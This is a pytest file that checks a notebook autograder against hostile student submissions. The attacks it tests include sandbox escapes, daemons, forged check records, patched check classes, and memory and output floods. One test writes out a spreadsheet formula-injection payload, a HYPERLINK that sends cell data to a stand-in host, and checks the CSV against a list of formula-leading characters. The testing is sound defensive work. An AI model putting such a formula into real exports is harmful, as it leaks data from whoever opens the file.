"""Hostile submissions graded in one run next to honest ones (issue 9, findings 10-12).

Each attacker in tests/pipeline_fixtures/hostile/ solves a known part of the fizz exercise
and attacks the grader in one way; it must score exactly what it solved. alice (graded
first) and zoe (graded after every attack) are right, the untouched exercise scores 0, and
the instructor's checkout is byte-identical afterwards. The fixtures need no engine, so the
run uses ``--engine none``.
"""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import nbformat
import psutil
import pytest

from lab_support import grade, sandbox
from lab_support.report import read_csv

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "pipeline_fixtures"
HOSTILE = FIXTURES / "hostile"
ORDER = ["alice", "mallory_daemon", "mallory_files", "mallory_patch", "mallory_records",
         "mallory_ids", "mallory_solutions", "mallory_invented", "mallory_memory",
         "mallory_output", "zoe", "fizz"]
EXPECTED = {  # (points, max, execution status)
    "alice": (4, 4, "completed"), "zoe": (4, 4, "completed"), "fizz": (0, 4, "completed"),
    "mallory_daemon": (3, 4, "completed"),      # solved fizz; its daemon is killed
    "mallory_files": (3, 4, "completed"),       # solved fizz; every escape is denied
    "mallory_patch": (0, 4, "completed"),       # patched lab.check, solved nothing
    "mallory_records": (0, 4, "completed"),     # forged records and tokens
    "mallory_ids": (1, 4, "completed"),         # solved total; forged check cells replaced
    "mallory_solutions": (0, 4, "completed"),   # could not read solutions
    "mallory_invented": (1, 4, "completed"),    # solved total; invented checks ignored
    "mallory_memory": (3, 4, "memory limit"),   # solved fizz, then asked for 8 GB
    "mallory_output": (3, 4, "output limit"),   # solved fizz, then printed 500 MB
}
SKIP_DIRS = {".venv", ".git", "__pycache__", ".pytest_cache", ".ruff_cache", "node_modules"}
ESCAPE_FILES = [Path("/tmp/lab-grader-escape.txt"), Path("/root/lab-grader-escape.txt")]

pytestmark = [pytest.mark.notebook, pytest.mark.slow,
              pytest.mark.skipif(sandbox.landlock_abi() < 6,
                                 reason="needs Landlock ABI >= 6 (file and signal confinement)")]


def snapshot(folder: Path) -> dict[str, str]:
    """Every file of the checkout (not the venv or caches) with its hash."""
    found = {}
    stack = [folder]
    while stack:
        current = stack.pop()
        for entry in current.iterdir():
            if entry.is_dir() and not entry.is_symlink():
                if entry.name not in SKIP_DIRS:
                    stack.append(entry)
            elif entry.is_file():
                found[str(entry.relative_to(folder))] = hashlib.sha256(entry.read_bytes()).hexdigest()
    return found


def daemons() -> list[psutil.Process]:
    found = []
    for proc in psutil.process_iter(["cmdline"]):
        if "LAB-HOSTILE-DAEMON" in (proc.info["cmdline"] or []):
            found.append(proc)
    return found


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    for path in ESCAPE_FILES:
        path.unlink(missing_ok=True)
    before = snapshot(ROOT)
    out = tmp_path_factory.mktemp("hostile")
    targets = [str(FIXTURES / "exercises" / "fizz.ipynb") if who == "fizz" else
               str(HOSTILE / who) if who != "alice" else str(FIXTURES / "submissions" / "alice")
               for who in ORDER]
    code = grade.main(targets + ["--source", str(FIXTURES / "solutions"), "--out", str(out),
                                 "--timeout", "30", "--engine", "none", "--confine", "landlock"])
    assert code == 0
    after = snapshot(ROOT)
    rows = read_csv(out / "grades.csv")
    return out, rows, {(r.submission, r.check): r for r in rows}, before, after


def totals(rows):
    found: dict[str, list] = {}
    for row in rows:
        entry = found.setdefault(row.submission, [0, 0, ""])
        entry[0] += row.points
        entry[1] += row.max
        if row.check == grade.EXECUTION_ROW:
            entry[2] = row.status
    return {name: tuple(entry) for name, entry in found.items()}


def executed(out: Path, who: str) -> str:
    nb = nbformat.read(str(out / "executed" / who / "fizz.ipynb"), as_version=4)
    return "\n".join(o.get("text", "") for c in nb.cells for o in c.get("outputs", []))


def test_each_submission_scores_exactly_what_it_solved(graded):
    _, rows, _, _, _ = graded
    assert totals(rows) == EXPECTED


def test_the_instructors_checkout_is_untouched(graded):
    _, _, _, before, after = graded
    changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
    assert not changed, changed
    assert not any(path.exists() for path in ESCAPE_FILES)


def test_every_escape_was_denied(graded):
    out, _, by_key, _, _ = graded
    text = executed(out, "mallory_files")
    assert "ESCAPES" in text and "ALLOWED" not in text, text
    assert (out / "executed" / "alice" / "fizz.ipynb").is_file()  # not deleted
    assert by_key[("alice", "fizz of 3")].status == "passed"
    assert "SOLUTIONS: denied" in executed(out, "mallory_solutions")


def test_a_detached_process_does_not_outlive_its_submission(graded):
    _, _, by_key, _, _ = graded
    assert not daemons()
    assert "left running" in by_key[("mallory_daemon", grade.EXECUTION_ROW)].hint
    assert by_key[("zoe", "total adds")].status == "passed"  # not forged, earned


def test_a_patched_check_class_is_caught_and_flagged(graded):
    _, _, by_key, _, _ = graded
    for name in ("fizz of 3", "fizz of 4 (hidden)", "total adds"):
        row = by_key[("mallory_patch", name)]
        assert row.status == "failed" and "lab.check looks patched" in row.hint, row


def test_forged_check_cells_are_replaced_by_the_sources(graded):
    out, _, by_key, _, _ = graded
    assert by_key[("mallory_ids", "fizz of 3")].status == "failed"
    assert by_key[("mallory_ids", "fizz of 4 (hidden)")].status == "failed"
    nb = nbformat.read(str(out / "executed" / "mallory_ids" / "fizz.ipynb"), as_version=4)
    assert len(nb.metadata["lab"]["grading"]["replaced_cells"]) == 4
    sources = [c.source for c in nb.cells]
    assert sum("fizz of 4 (hidden)" in s for s in sources) == 1
    assert not any("assert True" in s for s in sources)


def test_only_the_sources_checks_count_and_others_are_listed(graded):
    out, _, by_key, _, _ = graded
    bonus = by_key[("mallory_invented", "bonus points for confidence")]
    assert (bonus.points, bonus.max, bonus.status) == (0, 0, "ignored")
    formula = '=HYPERLINK("http://example.invalid/?d="&A1,"click")'
    assert by_key[("mallory_invented", formula)].status == "ignored"
    assert "Ignored check records" in (out / "report.html").read_text()


def test_csv_cells_cannot_be_formulas(graded):
    out, _, _, _, _ = graded
    with open(out / "grades.csv", newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)


def test_limits_say_which_limit_was_hit_and_bound_the_notebook(graded):
    out, _, by_key, _, _ = graded
    assert "MemoryError" in by_key[("mallory_memory", grade.EXECUTION_ROW)].hint
    assert by_key[("mallory_memory", "total adds")].status == "not reached"
    assert "MB" in by_key[("mallory_output", grade.EXECUTION_ROW)].hint
    size = (out / "executed" / "mallory_output" / "fizz.ipynb").stat().st_size
    assert size < (grade.DEFAULT_OUTPUT_MB + 2) * 2**20, size
    assert "output truncated" in executed(out, "mallory_output")


def test_tokens_never_reach_the_saved_notebooks(graded):
    out, _, _, _, _ = graded
    for path in (out / "executed").rglob("*.ipynb"):
        assert "application/vnd.lab.grader+json" not in path.read_text() \
            or path.parent.name == "mallory_records", path  # only its forged, ignored ones
